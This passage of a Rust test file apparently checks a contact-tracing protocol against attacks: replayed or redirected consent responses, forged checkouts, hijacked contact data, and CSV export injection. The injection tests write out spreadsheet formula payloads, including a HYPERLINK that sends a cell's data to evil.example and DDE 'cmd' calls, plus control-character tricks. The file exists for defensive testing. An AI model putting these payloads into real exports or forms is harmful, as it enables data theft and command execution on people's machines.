        .answer_tracing_request(&mut t.rng, request.as_bytes(), &t.cert_a, &stored, NOW.plus_secs(HOUR))
        .unwrap();
    assert_eq!((answer.consented, answer.failed.len()), (0, 3));
    assert!(answer.failed.iter().all(|f| f.error == OpenError::DecryptionFailed));
    let opened = t.office_a.open_consent_response(answer.responses[0].as_bytes(), &request).unwrap();
    assert!(opened.check_ins.is_empty() && opened.unreadable.is_empty());
    let other_request =
        t.office_a.request_tracing(&mut t.rng, other.venue_id(), hour(), NOW.plus_secs(HOUR), DAY).unwrap();
    let moved_in = [StoredCheckIn { record: to_other_venue, additional_data: None }];
    let answer =
        other.answer_tracing_request(&mut t.rng, other_request.as_bytes(), &t.cert_a, &moved_in, NOW.plus_secs(HOUR));
    let answer = answer.unwrap();
    assert_eq!((answer.consented, answer.failed[0].error.kind()), (0, "decryption_failed"));

    // The untouched record still opens: only the genuine check-in is traced.
    let (_, _, opened) = t.trace(NOW.plus_secs(HOUR));
    assert_eq!(opened.check_ins.len(), 1);
    assert_eq!(opened.check_ins[0].secrets.user_id, t.alice.user_id());
}

// ----------------------------------------------------------- 8. consent replays

#[test]
fn attack_consent_replayed_into_other_request() {
    let mut t = Town::new(14);
    for guest in [0, 1] {
        let g = if guest == 0 { &mut t.alice } else { &mut t.bob };
        let code = g.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
        t.scan(&code.text(), NOW);
    }
    let at = NOW.plus_secs(2 * HOUR);
    let (first, response, opened) = t.trace(at);
    assert_eq!(opened.check_ins.len(), 2, "the genuine answer opens");
    let stored = t.server.clone();

    // Office A asks again (same venue, same window): the server hands it the
    // earlier answer instead of forwarding the new request.
    let second = t.request(hour(), at);
    assert_ne!(first.request_hash(), second.request_hash());
    let err = t.server.consent_response(&response, &second).unwrap_err();
    assert_eq!(err, ServerError::Mismatch { field: "request_hash" });
    let err = t.office_a.open_consent_response(&response, &second).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::BindingMismatch { field: "request_hash" }));
    assert_eq!(err.kind(), "binding_mismatch");

    // The server rewrites the response's request hash: it now passes the
    // server's check, but every entry is bound to the first request.
    let rewritten = splice(&response, &first.request_hash(), &second.request_hash());
    t.server.consent_response(&rewritten, &second).unwrap();
    let err = t.office_a.open_consent_response(&rewritten, &second).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::DecryptionFailed));
    assert_eq!(err.kind(), "decryption_failed");

    // Into a request for another venue (the private meeting), rewritten likewise.
    let meeting = t.host.venue_id();
    let third = t.office_a.request_tracing(&mut t.rng, meeting, hour(), at, DAY).unwrap();
    let moved = splice(&rewritten, &second.request_hash(), &third.request_hash());
    let moved = splice(&moved, t.venue.venue_id().as_bytes(), meeting.as_bytes());
    let err = t.office_a.open_consent_response(&moved, &third).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::DecryptionFailed));

    // An expired request replayed to the venue is not answered.
    let expired = t.office_a.request_tracing(&mut t.rng, t.venue.venue_id(), hour(), NOW, HOUR).unwrap();
    let records = t.server.check_ins_of(t.venue.venue_id());
    let err = t.venue.answer_tracing_request(&mut t.rng, expired.as_bytes(), &t.cert_a, &records, at).unwrap_err();
    assert_eq!(err, VenueError::UntrustedRequest(VerifyError::Expired));
    assert_eq!(err.kind(), "expired");

    // Nothing new was stored but the rewritten response the server forged itself.
    let mut expected = stored;
    expected.consent_responses.push(rewritten);
    assert_eq!(t.server, expected);
}

#[test]
fn attack_consent_redirected_to_other_office() {
    let mut t = Town::new(15);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let at = NOW.plus_secs(2 * HOUR);
    let (request_a, response, opened) = t.trace(at);
    assert_eq!(opened.check_ins.len(), 1);

    // The server hands office A's consent to office B, with A's request …
    let err = t.office_b.open_consent_response(&response, &request_a).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::BindingMismatch { field: "health_office_id" }));
    // … as the answer to B's own request for the venue …
    let request_b = t.office_b.request_tracing(&mut t.rng, t.venue.venue_id(), hour(), at, DAY).unwrap();
    let request_b = server::tracing_request(request_b.as_bytes(), &t.cert_b, at).unwrap();
    assert_eq!(
        server::consent_response(&response, &request_b).unwrap_err(),
        ServerError::Mismatch { field: "request_hash" }
    );
    let err = t.office_b.open_consent_response(&response, &request_b).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::BindingMismatch { field: "request_hash" }));
    // … rewritten to name B and B's request: sealed to A's key and bound to A.
    let redirected = splice(&response, &request_a.request_hash(), &request_b.request_hash());
    let redirected = splice(&redirected, t.cert_a.id().as_bytes(), t.cert_b.id().as_bytes());
    server::consent_response(&redirected, &request_b).unwrap();
    let err = t.office_b.open_consent_response(&redirected, &request_b).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::DecryptionFailed));
    assert_eq!(err.kind(), "decryption_failed");

    // The server asks the venue to seal A's request to B's key (it forwards
    // B's certificate), or forges a request in B's name: the venue refuses.
    let records = t.server.check_ins_of(t.venue.venue_id());
    let err = t.venue.answer_tracing_request(&mut t.rng, request_a.as_bytes(), &t.cert_b, &records, at).unwrap_err();
    assert_eq!(err, VenueError::UntrustedRequest(VerifyError::WrongIssuer));
    assert_eq!(ConsentResponseBuilder::new(&request_a, &t.cert_b).unwrap_err(), VerifyError::WrongIssuer);
    let forger = HealthOfficeMasterKeys::generate(&mut t.rng);
    let forged = TracingRequest::sign(
        &forger.signing,
        RequestId::random(&mut t.rng),
        t.cert_b.id(),
        t.venue.venue_id(),
        hour(),
        at,
        at.plus_secs(DAY),
    )
    .unwrap();
    let err = t.venue.answer_tracing_request(&mut t.rng, forged.as_bytes(), &t.cert_b, &records, at).unwrap_err();
    assert_eq!(err, VenueError::UntrustedRequest(VerifyError::BadSignature));
    assert_eq!(server::tracing_request(forged.as_bytes(), &t.cert_b, at).unwrap_err().kind(), "bad_signature");

    // Only B's own, genuine request gets B an answer it can open.
    let answer = t.venue.answer_tracing_request(&mut t.rng, request_b.as_bytes(), &t.cert_b, &records, at).unwrap();
    let opened_b = t.office_b.open_consent_response(answer.responses[0].as_bytes(), &request_b).unwrap();
    assert_eq!(opened_b.check_ins.len(), 1);
    assert_eq!(opened_b.check_ins[0].secrets.user_id, t.alice.user_id());
}

/// A faulty or malicious venue forwards a guest's inner record with a `enc_y` that is not the y-coordinate of the
/// QR's `enc` (PROTOCOL.md §8.5): the office, which checks y instead of taking a square root, refuses the response
/// before any decryption of the inner layer, and never opens the guest's secrets under a wrong point.
#[test]
fn attack_inner_record_with_forged_enc_y() {
    let mut t = Town::new(27);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let at = NOW.plus_secs(2 * HOUR);
    let request = t.request(hour(), at);
    let (qr, y) = (&code.qr, code.qr.enc_y());
    // [1, 0, body, enc_y] with the y given.
    let inner = |y: &[u8]| {
        let mut b = vec![0x84, 0x01, 0x00, 0x58, 0x69];
        b.extend_from_slice(qr.body());
        b.extend_from_slice(&[0x58, 0x20]);
        b.extend_from_slice(y);
        b
    };
    let respond = |rng: &mut ChaCha20Rng, bytes: &[u8]| {
        let mut builder = ConsentResponseBuilder::new(&request, &t.cert_a).unwrap();
        builder.add_unchecked(rng, qr.trace_id(), qr.minute(), CheckInSource::Guest, bytes, None).unwrap();
        builder.finish().to_bytes()
    };
    // The genuine y opens: the forged ones below differ from it in nothing else.
    let genuine = respond(&mut t.rng, &inner(&y));
    let opened = t.office_a.open_consent_response(&genuine, &request).unwrap();
    assert_eq!(opened.check_ins[0].secrets.user_id, t.alice.user_id());

    let mut other_parity = y;
    other_parity[31] ^= 1;
    let mut off_curve = y;
    off_curve[0] ^= 0x80;
    for forged in [other_parity, off_curve, [0u8; 32], [0xff; 32]] {
        let response = respond(&mut t.rng, &inner(&forged));
        // The server sees a well-formed response bound to the request and relays it.
        t.server.consent_response(&response, &request).unwrap();
        let err = t.office_a.open_consent_response(&response, &request).unwrap_err();
        assert_eq!(err, TracingError::Open(OpenError::Malformed(DecodeError::InvalidPoint { field: "enc_y" })));
        assert_eq!(err.kind(), "invalid_point");
    }
    // Without enc_y (the three-item form), or with the QR's compressed point replaced by an uncompressed prefix.
    let three = respond(&mut t.rng, &[&[0x83, 0x01, 0x00, 0x58, 0x69][..], qr.body()].concat());
    let err = t.office_a.open_consent_response(&three, &request).unwrap_err();
    assert_eq!(
        err,
        TracingError::Open(OpenError::Malformed(DecodeError::WrongArity {
            field: "inner_record",
            expected: 4,
            got: 3
        }))
    );
    let mut prefix = inner(&y);
    prefix[5 + 24] = 0x04;
    let err = t.office_a.open_consent_response(&respond(&mut t.rng, &prefix), &request).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::Malformed(DecodeError::InvalidPoint { field: "enc" })));
}

// ------------------------------------------------------------------ 9. checkout

#[test]
fn attack_checkout_without_proof() {
    let mut t = Town::new(16);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let record = t.server.record(code.trace_id);
    let later = NOW.plus_secs(HOUR);
    let before = t.server.clone();

    // Someone who knows only the trace id (the server's staff, a scanner, a
    // photo of the QR) sends a checkout for it with a made-up proof.
    let made_up = Checkout::new(&CheckoutProof::random(&mut t.rng), later);
    let forged = splice(made_up.as_bytes(), made_up.trace_id().as_bytes(), code.trace_id.as_bytes());
    assert_eq!(CheckoutIn::from_slice(&forged).unwrap().trace_id(), code.trace_id);
    let err = t.server.checkout(&forged, later).unwrap_err();
    assert_eq!(err, ServerError::Checkout(CheckoutError::BadProof));
    assert_eq!(err.kind(), "bad_proof");
    // The trace id itself, twice, as the proof.
    let mut doubled = [0u8; 32];
    doubled[..16].copy_from_slice(code.trace_id.as_bytes());
    doubled[16..].copy_from_slice(code.trace_id.as_bytes());
    let guess = Checkout::new(&CheckoutProof::from_slice(&doubled).unwrap(), later);
    let guess = splice(guess.as_bytes(), guess.trace_id().as_bytes(), code.trace_id.as_bytes());
    assert_eq!(t.server.checkout(&guess, later).unwrap_err().kind(), "bad_proof");
    // A valid proof of another check-in (the attacker's own, or the guest's
    // of another minute) names another trace id.
    let other_minute = t.alice.check_in_code(&mut t.rng, &t.daily, NOW.plus_secs(60)).unwrap();
    let own = t.alice.checkout(other_minute.minute, later).unwrap();
    assert_eq!(
        server::checkout(own.as_bytes(), &record, later).unwrap_err(),
        ServerError::Mismatch { field: "trace_id" }
    );
    assert_eq!(t.server, before, "no checkout was stored");

    // The guest's own proof, with time tricks, is still checked.
    let early = t.alice.checkout(code.minute, NOW.minus_secs(1)).unwrap();
    assert_eq!(t.server.checkout(early.as_bytes(), later).unwrap_err().kind(), "before_checkin");
    let future = t.alice.checkout(code.minute, later.plus_secs(301)).unwrap();
    assert_eq!(t.server.checkout(future.as_bytes(), later).unwrap_err().kind(), "in_future");
    assert_eq!(t.server, before);

    // Only the guest, who holds the tracing secret, checks out.
    let genuine = t.alice.checkout_code(&code, later).unwrap();
    t.server.checkout(genuine.as_bytes(), later).unwrap();
    assert_eq!(t.server.checkouts.len(), 1);
}

// ------------------------------------------------------------- 10. contact data

#[test]
fn attack_contact_data_swapped_between_users() {
    let mut t = Town::new(17);
    for guest in [0, 1] {
        let g = if guest == 0 { &mut t.alice } else { &mut t.bob };
        let code = g.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
        t.scan(&code.text(), NOW);
    }
    let opened = t.trace_alice(NOW.plus_secs(HOUR));
    let (alice_id, bob_id) = (t.alice.user_id(), t.bob.user_id());
    let alice_in = opened.check_ins.iter().find(|c| c.secrets.user_id == alice_id).unwrap();
    let bob_in = opened.check_ins.iter().find(|c| c.secrets.user_id == bob_id).unwrap();
    let (alice_data, bob_data) = (t.server.contact_data[&alice_id].clone(), t.server.contact_data[&bob_id].clone());
    let before = t.server.clone();

    // The server serves Bob's contact data for Alice's check-in.
    let err = t.office_a.decrypt_contact(&bob_data, alice_in).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::BindingMismatch { field: "user_id" }));
    assert_eq!(err.kind(), "binding_mismatch");
    // … with Alice's user id written into it: the guest's signature breaks.
    let relabelled = splice(&bob_data, bob_id.as_bytes(), alice_id.as_bytes());
    let err = t.office_a.decrypt_contact(&relabelled, alice_in).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::BindingMismatch { field: "signature" }));
    // The server itself refuses the relabelled data, as a registration or as
    // an update of Alice's (it carries Bob's key).
    assert_eq!(server::contact_data(&relabelled, None).unwrap_err().kind(), "bad_signature");
    let err = t.server.contact_data(&relabelled).unwrap_err();
    assert_eq!(err, ServerError::Verify(VerifyError::KeyMismatch));
    assert_eq!(err.kind(), "key_mismatch");
    // Swapping the ciphertexts and nonces between the two objects breaks the signatures.
    let a = ContactDataIn::from_slice(&alice_data).unwrap();
    let b = ContactDataIn::from_slice(&bob_data).unwrap();
    assert_eq!(a.updated_at(), b.updated_at());
    let (pa, pb) = (parse_cose(&alice_data), parse_cose(&bob_data));
    // The payload is [1, user_id, guest_key, updated_at, nonce, ciphertext].
    let (ia, ib) = (flat_items(&pa.payload), flat_items(&pb.payload));
    let swapped_payload = cbor::array(&[&ia[..4], &ib[4..]].concat());
    let swapped = cose(&pa.protected, &swapped_payload, &pa.signature);
    let err = t.office_a.decrypt_contact(&swapped, alice_in).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::BindingMismatch { field: "signature" }));
    assert_eq!(t.server, before, "nothing was stored");

    // Each check-in decrypts only its own guest's data.
    let alice = t.contact(alice_in).unwrap();
    let bob = t.contact(bob_in).unwrap();
    assert_eq!((alice.fields.first_name.as_str(), bob.fields.first_name.as_str()), ("Erika", "Max"));
    assert_eq!((alice.user_id, bob.user_id), (alice_id, bob_id));
}

#[test]
fn attack_contact_data_signed_by_other_key() {
    let mut t = Town::new(18);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let alice_id = t.alice.user_id();
    let stored = t.server.contact_data[&alice_id].clone();

    // Mallory uploads an "update" of Alice's contact data, signed by her own key.
    let mallory = GuestSigningKey::generate(&mut t.rng);
    let hers = fields("Mallory", "Mustermann", "+49 30 6666666");
    let secret = DataSecret::random(&mut t.rng);
    let hijack =
        ContactData::seal(&mut t.rng, &mallory, alice_id, &secret, &hers, NOW.plus_secs(60)).unwrap().to_bytes();
    let err = t.server.contact_data(&hijack).unwrap_err();
    assert_eq!(err, ServerError::Verify(VerifyError::KeyMismatch));
    assert_eq!(err.kind(), "key_mismatch");
    // Alice's own data re-signed by Mallory (signature replaced) …
    let parts = parse_cose(&stored);
    let resigned = sign_cose(labels::COSE_CONTACT_DATA, &parts.payload, mallory.to_bytes().as_slice());
    assert_eq!(server::contact_data(&resigned, None).unwrap_err().kind(), "bad_signature");
    // … or with Mallory's key written in as the signer, then re-signed.
    let alice_key = ContactDataIn::from_slice(&stored).unwrap().guest_key();
    let payload = splice(&parts.payload, &alice_key.to_bytes(), &mallory.public_key().to_bytes());
    let rekeyed = sign_cose(labels::COSE_CONTACT_DATA, &payload, mallory.to_bytes().as_slice());
    assert_eq!(t.server.contact_data(&rekeyed).unwrap_err().kind(), "key_mismatch");
    assert_eq!(t.server.contact_data[&alice_id], stored, "the server kept Alice's data");

    // A malicious server serves them anyway when office A traces Alice's check-in.
    let opened = t.trace_alice(NOW.plus_secs(HOUR));
    let check_in = &opened.check_ins[0];
    assert_eq!(check_in.secrets.user_id, alice_id);
    let err = t.office_a.decrypt_contact(&hijack, check_in).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::DecryptionFailed));
    assert_eq!(err.kind(), "decryption_failed");
    let err = t.office_a.decrypt_contact(&resigned, check_in).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::BindingMismatch { field: "signature" }));
    // The signer's key is AEAD associated data: Alice's ciphertext under Mallory's key does not open.
    let err = t.office_a.decrypt_contact(&rekeyed, check_in).unwrap_err();
    assert_eq!(err, TracingError::Open(OpenError::DecryptionFailed));

    // An old version of Alice's data replayed after an update is refused.
    let update =
        t.alice.update_contact_data(&mut t.rng, &fields("Erika", "Musterfrau", "+49 30 1234567"), NOW.plus_secs(60));
    t.server.contact_data(update.unwrap().as_bytes()).unwrap();
    let err = t.server.contact_data(&stored).unwrap_err();
    assert_eq!(err, ServerError::Verify(VerifyError::InvalidValidity));

    // Office A decrypts only what Alice signed.
    let contact = t.contact(check_in).unwrap();
    assert_eq!(contact.fields.last_name, "Musterfrau");
    assert_ne!(contact.fields.first_name, "Mallory");
}

// ------------------------------------------- 11. spreadsheet and control characters

/// One quoted CSV row as the exporter writes it, from already-neutralised cells.
fn csv_row(contact: &Contact, cells: [&str; 8]) -> String {
    let utc = {
        let m = u64::from(contact.minute.0) % 1440;
        format!("2026-11-29T{:02}:{:02}:00Z", m / 60, m % 60)
    };
    let table = contact.table.map(|t| t.to_string()).unwrap_or_default();
    let ids = [
        contact.user_id.to_string(),
        contact.venue_id.to_string(),
        contact.trace_id.to_string(),
        contact.minute.0.to_string(),
        utc,
        table,
    ];
    let quoted: Vec<String> =
        ids.iter().map(|c| format!("\"{c}\"")).chain(cells.iter().map(|c| c.to_string())).collect();
    format!("{}\r\n", quoted.join(","))
}

/// The JSON export parsed back: every value a string, keyed by user id.
fn json_rows(json: &str) -> BTreeMap<String, serde_json::Map<String, serde_json::Value>> {
    let value: serde_json::Value = serde_json::from_str(json).unwrap();
    value
        .as_array()
        .unwrap()
        .iter()
        .map(|row| {
            let row = row.as_object().unwrap().clone();
            assert_eq!(row.len(), export::COLUMNS.len());
            assert!(row.values().all(serde_json::Value::is_string), "every JSON value is a plain string");
            (row["user_id"].as_str().unwrap().to_owned(), row)
        })
        .collect()
}

fn field_texts(f: &ContactFields) -> [&str; 8] {
    [&f.first_name, &f.last_name, &f.phone, &f.email, &f.street, &f.house_number, &f.postcode, &f.city]
}

#[test]
fn attack_csv_formula_injection() {
    let mut t = Town::new(19);
    // Mallory registers with a spreadsheet formula in every field, within the
    // field rules (the phone allows only digits, space and `+ ( ) / -`).
    let mut evil = ContactFields::default();
    evil.first_name = r#"=HYPERLINK("http://evil.example/?"&A1,"Details")"#.into();
    evil.last_name = "=cmd|' /C calc'!A0".into();
    evil.phone = "-1+1 (0) 555/123".into();
    evil.email = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    evil.street = "+cmd|' /C notepad'!A0".into();
    evil.house_number = " =1+1".into();
    evil.postcode = "＝1+1".into();
    evil.city = "\u{a0}@SUM(1)".into();
    let mut mallory = register(&mut t.rng, &mut t.server, &evil);

    // Alice and Mallory check in; Alice tests positive and is traced.
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let code = mallory.check_in_code(&mut t.rng, &t.daily, NOW.plus_secs(60)).unwrap();
    t.scan(&code.text(), NOW.plus_secs(60));
    let opened = t.trace_alice(NOW.plus_secs(HOUR));
    let contacts: Vec<Contact> = opened.check_ins.iter().map(|c| t.contact(c).unwrap()).collect();
    assert_eq!(contacts.len(), 2);
    let alice = contacts.iter().find(|c| c.user_id == t.alice.user_id()).unwrap();
    let evil_contact = contacts.iter().find(|c| c.user_id == mallory.user_id()).unwrap();
    assert_eq!(evil_contact.fields, evil, "the payloads arrive intact: neutralising is the exporter's job");

    // CSV: every field quoted, quotes doubled, and every field whose first
    // (visible) character starts a formula prefixed with a single quote.
    let csv = export::to_csv(&contacts);
    let header = format!("{}\r\n", export::COLUMNS.map(|c| format!("\"{c}\"")).join(","));
    let alice_row = csv_row(
        alice,
        [
            "\"Erika\"",
            "\"Mustermann\"",
            "\"'+49 30 1234567\"",
            "\"erika@example.org\"",
            "\"Heidestraße\"",
            "\"17\"",
            "\"51147\"",
            "\"Köln\"",
        ],
    );
    let evil_row = csv_row(
        evil_contact,
        [
            r#""'=HYPERLINK(""http://evil.example/?""&A1,""Details"")""#,
            r#""'=cmd|' /C calc'!A0""#,
            r#""'-1+1 (0) 555/123""#,
            r#""'@SUM(1+1)*cmd|' /C calc'!A0""#,
            r#""'+cmd|' /C notepad'!A0""#,
            r#""' =1+1""#,
            "\"'＝1+1\"",
            "\"'\u{a0}@SUM(1)\"",
        ],
    );
    assert_eq!(csv, format!("{header}{alice_row}{evil_row}"));

    // JSON: plain string values, exactly the fields' text, escaped.
    let json = export::to_json(&contacts);
    assert!(json.contains(r#""first_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")""#));
    let rows = json_rows(&json);
    let row = &rows[&mallory.user_id().to_string()];
    for (column, text) in export::COLUMNS[6..].iter().zip(field_texts(&evil)) {
        assert_eq!(row[*column], serde_json::Value::String(text.to_owned()), "{column}");
    }
    assert_eq!(row["trace_id"], serde_json::Value::String(code.trace_id.to_string()));
    assert_eq!(rows.len(), 2);
}

/// Characters the field rules forbid, of every kind: C0 and C1 controls, DEL, the bidi controls, the
/// byte-order mark, the line and paragraph separators and other invisible format characters (zero-width
/// space, soft hyphen, word joiner, a tag character).
const FORBIDDEN: [char; 23] = [
    '\0',
    '\t',
    '\n',
    '\r',
    '\u{1b}',
    '\u{7f}',
    '\u{85}',
    '\u{9f}',
    '\u{61c}',
    '\u{200e}',
    '\u{200f}',
    '\u{202a}',
    '\u{202e}',
    '\u{2066}',
    '\u{2069}',
    '\u{feff}',
    '\u{1f}',
    '\u{2028}',
    '\u{2029}',
    '\u{200b}',
    '\u{ad}',
    '\u{2060}',
    '\u{e0041}',
];

#[test]
fn attack_control_characters_in_contact_fields() {
    let mut t = Town::new(20);
    let base = fields("Erika", "Mustermann", "+49 30 1234567");
    let names = ["first_name", "last_name", "phone", "email", "street", "house_number", "postcode", "city"];

    // (a) Every field, every forbidden character: refused when sealing, at
    // registration and on update; nothing is produced.
    for (i, field) in names.iter().enumerate() {
        for c in FORBIDDEN {
            let mut f = base.clone();
            let value = if *field == "phone" { format!("+49 30{c}1234567") } else { format!("Er{c}ika") };
            match i {
                0 => f.first_name = value,
                1 => f.last_name = value,
                2 => f.phone = value,
                3 => f.email = value,
                4 => f.street = value,
                5 => f.house_number = value,
                6 => f.postcode = value,
                _ => f.city = value,
            }
            // The phone rule (its alphabet) refuses the character before the character rule would.
            let problem = if *field == "phone" {
                FieldProblem::NotAPhoneNumber
            } else {
                FieldProblem::ForbiddenCharacter { code_point: u32::from(c) }
            };
            let want = ClientError::InvalidContactField(ContactFieldError { field, problem });
            assert_eq!(t.alice.update_contact_data(&mut t.rng, &f, NOW).unwrap_err(), want, "{field} {c:?}");
            if c == '\u{202e}' {
                assert_eq!(Guest::register(&mut t.rng, &f, DeviceType::Ios, NOW).unwrap_err(), want);
            }
        }
    }
    // Names elsewhere: the guest name sent to a private meeting's host, a
    // meeting's name, a venue's name, a health office's name.
    let ScannedVenue::PrivateMeeting(meeting) = Guest::scan_venue_qr(&t.meeting_url, &t.registrar_cert, NOW).unwrap()
    else {
        panic!("the meeting's QR scans as a meeting");
    };
    let before = t.alice.check_ins();
    for c in FORBIDDEN {
        let name = format!("Erika{c}Mustermann");
        let err = t.alice.check_in_private_meeting(&mut t.rng, &meeting, &t.daily, &name, NOW).unwrap_err();
        assert_eq!(err, ClientError::Invalid(DecodeError::InvalidField { field: "guest_name" }), "{c:?}");
    }
    assert_eq!(t.alice.check_ins(), before, "no check-in was made");
    let validity = Validity { not_before: NOW, not_after: NOW.plus_secs(HOUR) };
    let err = PrivateMeetingHost::new(&mut t.rng, "Party\r\n=cmd", validity).unwrap_err();
    assert_eq!(err, MeetingError::InvalidName);
    let request = t.venue.registration_request("Café\u{1b}[2J", None);
    assert_eq!(request.validate().unwrap_err(), DecodeError::InvalidField { field: "name" });
    let err = t.registrar.register_venue(request.venue_id, &request.name, &request.venue_key, None, validity);
    assert_eq!(err.unwrap_err().kind(), "invalid_field");
    assert_eq!(t.office_a.certificate_request("Amt\u{7f}").unwrap_err().kind(), "invalid_field");

    // (b) A malicious app bypasses the sealing checks: it encrypts and signs
    // its own plaintext exactly as the protocol prescribes. The server cannot
    // see inside and stores it; the health office checks the field rules
    // after decryption and refuses the contact.
    let (user_id, data_secret) = (UserId::random(&mut t.rng), DataSecret::random(&mut t.rng));
    let key = GuestSigningKey::generate(&mut t.rng);
    let texts = ["\r\n=cmd|' /C calc'!A0", "\u{202e}nnam", "+31 20 9999", "", "", "", "", ""];
    let crafted = craft_contact_data(7, &key, user_id, &data_secret, texts, NOW);
    t.server.contact_data(&crafted).unwrap();
    let minute = NOW.plus_secs(120).minute();
    let tracing = DailyTracingSecret::random(&mut t.rng);
    let trace_id = derive::guest_trace_id(&tracing, &user_id, minute);
    let flags = QrFlags { device_type: DeviceType::WebApp, entry_policy: 0 };
    let key_id = t.daily.daily_key_id().unwrap();
    let qr = GuestCheckInQr::seal(
        &mut t.rng,
        key_id,
        &t.daily.public_key(),
        flags,
        minute,
        trace_id,
        &user_id,
        &data_secret,
    );
    t.scan(&qr.unwrap().to_base32(), minute.start());

    // (c) Eve registers through the app with what the rules allow: the
    // zero-width non-joiner and joiner, no-break and ideographic spaces, in
    // front of formulas.
    let mut eve_fields = ContactFields::default();
    eve_fields.first_name = "\u{200c}=cmd|' /C calc'!A0".into();
    eve_fields.last_name = "\u{3000}-1+1".into();
    eve_fields.phone = "+49 30 7654321".into();
    eve_fields.email = "eve\u{200d}@example.org".into();
    eve_fields.street = "\u{a0}\u{200d}=SUM(1)".into();
    eve_fields.house_number = "1\u{200c}2".into();
    eve_fields.postcode = "\u{3000}+1".into();
    eve_fields.city = "Köln\u{200d}".into();
    let mut eve = register(&mut t.rng, &mut t.server, &eve_fields);

    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    t.scan(&code.text(), NOW);
    let code = eve.check_in_code(&mut t.rng, &t.daily, NOW.plus_secs(60)).unwrap();
    t.scan(&code.text(), NOW.plus_secs(60));
    let opened = t.trace_alice(NOW.plus_secs(HOUR));
    assert_eq!(opened.check_ins.len(), 3);
    let mut contacts = Vec::new();
    for check_in in &opened.check_ins {
        match t.contact(check_in) {
            Ok(contact) => contacts.push(contact),
            Err(err) => {
                assert_eq!(check_in.secrets.user_id, user_id, "only the crafted contact data is refused");
                assert_eq!(
                    err,
                    TracingError::Open(OpenError::Malformed(DecodeError::InvalidField { field: "first_name" }))
                );
                assert_eq!(err.kind(), "invalid_field");
            }
        }
    }
    assert_eq!(contacts.len(), 2, "Alice and Eve; the crafted contact is not in the output");

    // CSV: formula prefixes behind invisible or white space neutralised, the
    // rest (the joiners included) kept exactly.
    let csv = export::to_csv(&contacts);
    let eve_contact = contacts.iter().find(|c| c.user_id == eve.user_id()).unwrap();
    let eve_row = csv_row(
        eve_contact,
        [
            "\"'\u{200c}=cmd|' /C calc'!A0\"",
            "\"'\u{3000}-1+1\"",
            "\"'+49 30 7654321\"",
            "\"eve\u{200d}@example.org\"",
            "\"'\u{a0}\u{200d}=SUM(1)\"",
            "\"1\u{200c}2\"",
            "\"'\u{3000}+1\"",
            "\"Köln\u{200d}\"",
        ],
    );
    assert!(csv.ends_with(&eve_row), "{csv}");
    assert_eq!(csv.matches("\r\n").count(), 3, "a header and two rows");
    assert!(!csv.chars().any(|c| c.is_control() && c != '\r' && c != '\n'));
    assert!(!csv.contains(['\u{2028}', '\u{2029}']));
    for text in texts.iter().filter(|s| !s.is_empty()) {
        assert!(!csv.contains(text), "the crafted contact's data is not exported");
    }
    // JSON: the exact text, every control character escaped.
    let json = export::to_json(&contacts);
    assert!(!json.chars().any(char::is_control));
    let rows = json_rows(&json);
    let row = &rows[&eve.user_id().to_string()];
    for (column, text) in export::COLUMNS[6..].iter().zip(field_texts(&eve_fields)) {
        assert_eq!(row[*column], serde_json::Value::String(text.to_owned()), "{column}");
    }
    assert!(!rows.contains_key(&user_id.to_string()));

    // (d) The exporter does not rely on the field rules: a contact built by
    // hand with raw control characters is neutralised all the same.
    let mut raw = ContactFields::default();
    raw.first_name = "\r\n=cmd".into();
    raw.last_name = "\t=1+1".into();
    raw.phone = "\0+1".into();
    raw.email = "\u{202e}gro.elpmaxe@evil".into();
    raw.street = "\u{1b}[31mred".into();
    raw.house_number = "\u{85}1".into();
    raw.postcode = "\u{feff}=1".into();
    raw.city = "a\"b,c".into();
    let by_hand = Contact { fields: raw.clone(), ..eve_contact.clone() };
    let csv = export::to_csv(std::slice::from_ref(&by_hand));
    let row = csv_row(
        &by_hand,
        [
            "\"'\u{fffd}\u{fffd}=cmd\"",
            "\"'\u{fffd}=1+1\"",
            "\"'\u{fffd}+1\"",
            "\"\u{fffd}gro.elpmaxe@evil\"",
            "\"\u{fffd}[31mred\"",
            "\"\u{fffd}1\"",
            "\"'\u{fffd}=1\"",
            "\"a\"\"b,c\"",
        ],
    );
    assert!(csv.ends_with(&row));
    let json = export::to_json(std::slice::from_ref(&by_hand));
    assert!(!json.bytes().any(|b| b < 0x20), "JSON escapes C0 controls");
    let rows = json_rows(&json);
    for (column, text) in export::COLUMNS[6..].iter().zip(field_texts(&raw)) {
        assert_eq!(rows[&by_hand.user_id.to_string()][*column], serde_json::Value::String(text.to_owned()));
    }
}

// --------------------------------------------------------- 12. malformed inputs

/// The error kind each malformed variant must produce at one decoder.
struct Kinds {
    /// Size cap + 1 bytes.
    too_long: &'static str,
    /// The last byte missing.
    truncated: &'static str,
    /// A zero byte appended.
    trailing: &'static str,
    /// 64 nested one-item arrays (within every cap).
    deep: &'static str,
    /// 10,000 nested one-item arrays.
    deep_10k: &'static str,
    /// The version byte set to another version.
    version: &'static str,
    /// No bytes at all.
    empty: &'static str,
}

impl Kinds {
    /// The rules of every CBOR message, COSE object and role state (§2.1):
    /// size cap first, then CBOR (bounded nesting, no trailing bytes), then the version.
